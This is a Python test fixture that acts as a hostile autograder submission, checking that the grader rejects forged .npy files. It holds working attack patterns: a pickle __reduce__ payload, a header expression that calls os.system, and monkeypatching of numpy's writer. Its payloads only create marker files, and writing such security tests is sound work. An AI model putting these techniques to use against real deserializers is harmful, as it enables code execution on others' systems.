"""Hostile: make the worker's own encoder emit forged ``.npy`` payloads.

Attack: replace the worker-side ``.npy`` writer (autograder.sandbox.codec._npy_bytes and
numpy's format.write_array) so that every returned array goes out with a lying header: a
shape of 10**12 elements over 48 bytes, the right shape over too few bytes, an object dtype
with a pickle (whose __reduce__ would create /tmp/ag_pwned_npy_*), a structured dtype with an
object field, a unicode dtype, a header that is a Python expression calling os.system, an
unknown format version, or a header length beyond the payload.
Why it must fail: the grader pre-parses every header with a strict pattern (numeric kinds
only) and checks declared size against the bytes present before numpy allocates anything;
it never unpickles.
Earns points only if: a forged payload is accepted (and then only what this code chose).
"""

from __future__ import annotations

import os
import pickle
import struct
import sys

import numpy as np

NAME = "forged_npy_encoder"
MARKER = f"/tmp/ag_pwned_npy_{NAME}"


def _say(message: object) -> None:
    """Leave evidence in the captured output, which ends up in the student's feedback."""
    try:
        print(f"AGPROBE {NAME}: {message}"[:400], flush=True)
    except Exception:
        pass


def _scribble(*arrays: object) -> None:
    """Overwrite the caller's arrays in place, so the purity item fails too."""
    for array in arrays:
        try:
            array[...] = np.nan  # type: ignore[index]
        except Exception:
            pass


def _wrong_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    """Wrong on every item: wrong values, shape (B+1, F+2), float32; inputs scribbled on."""
    shape = (np.shape(x)[0] + 1, np.shape(W)[-1] + 2)
    _scribble(x, W, b)
    return np.full(shape, 0.5, dtype=np.float32), {"wrong": True}


def _wrong_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Wrong on every item (see _wrong_forward)."""
    junk = np.full((np.shape(dy)[0] + 2, np.shape(dy)[-1] + 3), 0.5, dtype=np.float32)
    _scribble(dy)
    return junk, junk, junk


class _Payload:
    """Unpickling this creates the marker file in whoever unpickles it."""

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (MARKER, "w"))


def _npy(header: str, data: bytes, version: int = 1, length: int | None = None) -> bytes:
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    size = len(header) if length is None else length
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<H", size) + header.encode() + data


def _forgeries(array: np.ndarray) -> list[bytes]:
    shape = tuple(array.shape)
    evil = pickle.dumps(np.array([_Payload()], dtype=object), protocol=2)
    return [
        _npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }", b"\0" * 48),
        _npy("{'descr': '<f8', 'fortran_order': False, 'shape': %r, }" % (shape,), b"\0" * 8),
        _npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", evil),
        _npy("{'descr': [('a', '|O')], 'fortran_order': False, 'shape': (1,), }", evil),
        _npy("{'descr': '<U4', 'fortran_order': False, 'shape': (1,), }", b"P\0\0\0" * 4),
        _npy("{'descr': __import__('os').system('touch %s'), 'fortran_order': False, "
             "'shape': (1,), }" % MARKER, b"\0" * 8),
        _npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }", b"\0" * 8, version=9),
        _npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }", b"\0" * 8,
             length=65000),
        _npy("{'descr': '<f8', 'fortran_order': 'maybe', 'shape': (1,), }", b"\0" * 8),
        _npy("{'descr': '<f8', 'fortran_order': False, 'shape': (-1,), }", b"\0" * 8),
    ]


STATE = {"calls": 0}


def _forged_npy_bytes(array: np.ndarray) -> bytes:
    choices = _forgeries(np.asarray(array))
    index = (STATE["calls"] + int(np.sum(np.shape(array)))) % len(choices)
    return choices[index]


def _install() -> list[str]:
    done = []
    codec = sys.modules.get("autograder.sandbox.codec")
    if codec is not None and hasattr(codec, "_npy_bytes"):
        codec._npy_bytes = _forged_npy_bytes
        done.append("codec._npy_bytes")

    def write_array(fp: object, array: np.ndarray, *args: object, **kwargs: object) -> None:
        fp.write(_forged_npy_bytes(array))  # type: ignore[attr-defined]

    for module in (np.lib.format, sys.modules.get("numpy.lib._format_impl")):
        if module is not None and hasattr(module, "write_array"):
            module.write_array = write_array
            done.append(f"{module.__name__}.write_array")
    return done


_say(f"ran; replaced {_install()}; pid {os.getpid()}")


def linear_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    STATE["calls"] += 1
    return _wrong_forward(x, W, b)


def linear_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    STATE["calls"] += 1
    return _wrong_backward(dy, cache)
